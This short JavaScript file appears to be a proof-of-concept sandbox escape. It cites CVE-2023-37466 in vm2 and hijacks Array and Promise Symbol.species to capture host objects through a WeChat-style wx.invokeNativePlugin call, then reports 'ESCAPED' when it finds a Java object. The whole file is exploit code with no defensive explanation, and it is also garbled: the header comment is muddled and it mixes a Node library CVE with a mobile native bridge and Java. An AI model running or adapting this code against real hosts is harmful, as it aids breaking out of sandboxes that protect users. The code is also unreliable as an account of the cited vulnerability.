// Makes arrays of the host's own steps by a species of the program
// Source: CVE-2023-37466 (vm2)
const caught = [];
class Trap extends Array {
  static get [Symbol.species]() {
    return function (...all) { caught.push(this, ...all); return []; };
  }
}
Object.defineProperty(Array, Symbol.species, { get: () => Trap[Symbol.species], configurable: true });
Object.defineProperty(Promise, Symbol.species, { get: () => function (executor) { executor((x) => caught.push(x), (x) => caught.push(x)); }, configurable: true });
wx.invokeNativePlugin({ api_name: 'echo', data: { list: Trap.of(1, 2) } });
Promise.resolve(1).then(() => {
  for (const each of caught) if (each && each.getClass) console.log('ESCAPED: an object of Java');
}, () => {});
